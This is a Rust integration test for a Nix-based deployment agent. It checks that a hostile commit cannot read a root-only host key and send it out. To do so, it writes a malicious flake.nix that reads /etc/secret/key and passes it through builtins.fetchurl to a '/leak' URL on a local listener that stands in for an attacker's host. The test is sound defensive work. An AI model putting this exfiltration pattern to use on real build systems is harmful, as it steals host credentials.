//! Evaluation of commits on a whole host: by a user that can open nothing, before any
//! gate and whatever the commit says.

use std::io::{BufRead as _, BufReader};
use std::net::{SocketAddr, TcpListener};
use std::sync::{Arc, Mutex};

use crate::support::{Cluster, EVALUATOR, Host, on_each};

/// Secret that only root can read, as a host key is.
const SECRET: &str = "THE-HOST-KEY-OF-JOKER-41c9";

/// Listens beside the forge: where, and the first lines of what was asked.
fn ears(cluster: &Cluster) -> (SocketAddr, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind(cluster.forge_address(0)).unwrap();
    let address = listener.local_addr().unwrap();
    let heard = Arc::<Mutex<Vec<String>>>::default();
    let all = heard.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut line = String::new();
            let _ = BufReader::new(stream).read_line(&mut line);
            all.lock().unwrap().push(line);
        }
    });
    (address, heard)
}

#[test]
fn a_commit_reads_and_sends_nothing_that_only_root_can_read() {
    on_each(|cluster| {
        cluster.forge();
        let (address, heard) = ears(cluster);
        let one = Host::new("joker", "one").agent(&cluster.agent_config(""));
        let joker = cluster.installed(&one);
        joker.write("/etc/secret/key", SECRET.as_bytes());
        joker.set_mode("/etc/secret/key", 0o600);
        joker.set_mode("/etc/secret", 0o700);
        joker.boot();

        // As it was, by another user: its state is still closed to it.
        let two = one.at("two");
        let commit = cluster.push("release", &[&two]);
        joker.wait_in_sync(commit);
        let owner = ["stat", "-c", "%U", "/var/lib/fort-agent/evaluation/cache"];
        assert_eq!(joker.must(&owner), EVALUATOR);
        assert_eq!(joker.must(&["stat", "-c", "%a", "/var/lib/fort-agent"]), "700");
        assert!(joker.status().unwrap()["agent"]["unconfined"].is_null());

        let tree = cluster.tree();
        let flake = std::fs::read_to_string(tree.dir().join("flake.nix")).unwrap();
        let url = format!("http://{address}/leak?${{secret}}");
        let sha256 = "0".repeat(64);
        tree.write(
            "flake.nix",
            &format!(
                "{{ inputs.s = {{ url = \"path:/etc/secret\"; flake = false; }};\n\
                 outputs = {{ self, s }}: let secret = builtins.readFile (s + \"/key\"); in {{\n\
                 nixosConfigurations.joker.config.system.build.toplevel = builtins.fetchurl {{\n\
                 url = \"{url}\"; sha256 = \"{sha256}\"; }}; }}; }}"
            ),
        );
        // Pinned, by a hash that is not its own: Nix fetches it to find that out.
        tree.write(
            "flake.lock",
            r#"{"nodes":{"root":{"inputs":{"s":"s"}},"s":{"flake":false,"locked":{
                "type":"path","path":"/etc/secret","lastModified":1,
                "narHash":"sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="},
                "original":{"type":"path","path":"/etc/secret"}}},"root":"root","version":7}"#,
        );
        let evil = tree.commit("Send the host's key away");
        cluster.push_head("release");
        let status = joker.wait_status("it to fail", |status| {
            status["state"] == "backing-off" && status["desired"]["commit"] == evil.to_string()
        });
        let reason = status["reason"].as_str().unwrap();
        assert!(reason.contains("ermission denied"), "{reason}");
        assert_eq!(joker.tell(&["grep", "-rl", SECRET, "/nix/store"]), "");
        assert_eq!(*heard.lock().unwrap(), Vec::<String>::new());

        // Nothing pins it: no Nix is started for that.
        std::fs::remove_file(tree.dir().join("flake.lock")).unwrap();
        let evil = tree.commit("Pin nothing");
        cluster.push_head("release");
        let status = joker.wait_status("it to be held", |status| {
            status["state"] == "held" && status["desired"]["commit"] == evil.to_string()
        });
        assert_eq!(status["held"]["cause"], "lock-incomplete");
        assert_eq!(status["held"]["evidence"]["inputs"], "s");
        assert_eq!(joker.tell(&["grep", "-rl", SECRET, "/nix/store"]), "");

        tree.write("flake.nix", &flake);
        let good = cluster.push("release", &[&two.at("three")]);
        joker.wait_in_sync(good);
    });
}
